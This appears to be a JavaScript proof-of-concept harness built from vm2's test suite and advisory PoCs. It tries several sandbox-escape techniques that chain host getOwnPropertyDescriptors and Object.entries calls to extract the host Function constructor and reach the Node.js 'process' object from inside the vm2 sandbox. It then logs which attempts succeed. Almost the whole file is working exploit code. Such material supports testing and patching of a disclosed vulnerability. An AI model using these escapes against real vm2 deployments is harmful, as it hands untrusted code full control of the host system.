// Source: vm2 test/vm.js "getOwnPropertyDescriptor on getOwnPropertyDescriptors result (nested
// descriptor attack)", "triple-nested getOwnPropertyDescriptors attack (3 levels)", "Function
// constructor extraction via Object.entries on getOwnPropertyDescriptors result" and
// test/ghsa/GHSA-grj5-jjm8-h35p/descriptor-chain-history.js (PoCs #1-#5).
// Tried: build {value: {value: Function}} nestings with host getOwnPropertyDescriptors and peel them
// with host Object.entries, so the Function never passes vm2's constructor check.
// vm2 3.12 refuses the host `__proto__` getter this walk starts from (GHSA-88hf); so that the rest of
// the PoC still runs, it falls back to Object.getPrototypeOf, answered with vm2's mapped prototypes.
const out = {};
const walker = () => { const p = Buffer.apply.apply(({}).__lookupGetter__, [Buffer, ['__proto__']]); return typeof p === 'function' ? p : { call: (x) => Object.getPrototypeOf(x) }; };
const g = ({}).__lookupGetter__;
const a = Buffer.apply;
const tries = {
  nested: () => {
    const p = walker(); const fp = p.call(a); const ho = p.call(fp).constructor;
    const cd = ho.getOwnPropertyDescriptor(ho.getOwnPropertyDescriptors(fp), 'constructor');
    const ee = ho.entries(cd).find((v) => v[0] === 'value'); ee.shift();
    const e = ho.entries.apply(null, ee).find((v) => v[0] === 'value'); e.shift();
    e.push([undefined, ['return process']]);
    return a.apply(a, e)();
  },
  triple: () => {
    const p = walker(); const fp = p.call(a); const ho = p.call(fp).constructor;
    let d = ho.getOwnPropertyDescriptors(fp); d = ho.getOwnPropertyDescriptors(d);
    const cd = ho.getOwnPropertyDescriptor(d, 'constructor');
    const e1 = ho.entries(cd).find((v) => v[0] === 'value'); e1.shift();
    const e2 = ho.entries.apply(null, e1).find((v) => v[0] === 'value'); e2.shift();
    const e3 = ho.entries.apply(null, e2).find((v) => v[0] === 'value'); e3.shift();
    e3.push([undefined, ['return process']]);
    return a.apply(a, e3)();
  },
  viaConstructorKey: () => {
    const p = walker(); const fp = p.call(a); const ho = p.call(fp).constructor;
    const cd = ho.getOwnPropertyDescriptors(fp, 'constructor');
    const ee = ho.entries(cd).find((v) => v[0] === 'constructor'); ee.shift();
    const e = ho.entries.apply(null, ee).find((v) => v[0] === 'value'); e.shift();
    e.push([undefined, ['return process']]);
    return a.apply(a, e)();
  },
  findConstructor: () => {
    const p = walker(); const fp = p.call(a); const ho = p.call(fp).constructor;
    const e = ho.entries(ho.getOwnPropertyDescriptors(fp)).find((v) => v[0] === 'constructor');
    return e && e[1] && e[1].value;
  },
};
for (const [name, run] of Object.entries(tries)) {
  try { const got = run(); out[name] = typeof got; __wr.use(got, name); } catch (e) { out[name] = String(e.message).slice(0, 100); }
}
return out;
